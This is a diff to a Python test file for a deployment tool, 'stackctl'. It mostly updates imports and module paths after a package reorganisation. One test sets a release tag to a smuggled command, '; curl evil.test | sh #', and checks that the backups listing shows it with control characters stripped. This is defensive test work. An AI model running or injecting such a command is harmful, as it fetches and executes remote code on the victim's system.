@@ -13,12 +13,15 @@ from pathlib import Path
 import pytest
 from hypothesis import example, given
 from hypothesis import strategies as st
-from stackctl import backups, history, manifest, state, status
-from stackctl.errors import FailedError
-from stackctl.events import Journal, readable
-from stackctl.machine import INTERRUPTED, Machine
-from stackctl.printable import Filter, printable
 
+from stackctl.app import state
+from stackctl.backup import listing, manifest
+from stackctl.cli import status
+from stackctl.core import history
+from stackctl.core.errors import FailedError
+from stackctl.core.events import Journal, readable
+from stackctl.core.machine import INTERRUPTED, Machine
+from stackctl.core.printable import Filter, printable
 from tests.unit.manifests import made
 from tests.unit.stackctl_droplet import installed, stackctl
 
@@ -98,8 +101,8 @@ def test_status_and_history_and_backups_show_no_control_character(tmp_path: Path
     run = {"op": "release", "tag": TITLE, "at": "2026", "state": "failed", "ms": 1, "by": TITLE, "message": TITLE}
     assert "\x1b" not in history.text([run | {"steps": [{"step": TITLE, "ms": 1}]}])
     one = replace(made(1), release={"id": "20261129T120000.000Z", "tag": f"{TITLE}; curl evil.test | sh #"})
-    assert SHOWN in "\n".join(backups.table([one]))
-    assert "\x1b" not in "\n".join(backups.table([one]))
+    assert SHOWN in "\n".join(listing.table([one]))
+    assert "\x1b" not in "\n".join(listing.table([one]))
 
 
 def test_a_failure_at_the_end_is_shown_made_printable(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
@@ -152,8 +155,9 @@ class TestLogs:
 
     def test_a_line_is_shown_before_it_ends(self, tmp_path: Path) -> None:
         """A prompt, say, or a line that has no end: nothing waits for it, and nothing grows."""
-        code = f"import sys; sys.path.insert(0, {str(Path(manifest.__file__).parents[1])!r});"
-        code += "from stackctl.machine import Machine; sys.exit(Machine().shown(['sh', '-c', 'printf half; sleep 60']))"
+        code = f"import sys; sys.path.insert(0, {str(Path(manifest.__file__).parents[2])!r});"
+        code += "from stackctl.core.machine import Machine;"
+        code += "sys.exit(Machine().shown(['sh', '-c', 'printf half; sleep 60']))"
         with subprocess.Popen([sys.executable, "-c", code], stdout=subprocess.PIPE, stderr=subprocess.PIPE) as process:
             assert process.stdout
             assert process.stderr
@@ -163,8 +167,8 @@ class TestLogs:
             assert process.stderr.read() == b""
 
     def test_a_reader_that_is_gone_ends_it_quietly(self) -> None:
-        code = f"import sys; sys.path.insert(0, {str(Path(manifest.__file__).parents[1])!r});"
-        code += "from stackctl.machine import Machine; sys.exit(Machine().shown(['yes']))"
+        code = f"import sys; sys.path.insert(0, {str(Path(manifest.__file__).parents[2])!r});"
+        code += "from stackctl.core.machine import Machine; sys.exit(Machine().shown(['yes']))"
         ran = subprocess.run(
             ["bash", "-c", '"$0" -c "$1" | head -1; exit "${PIPESTATUS[0]}"', sys.executable, code],
             capture_output=True,
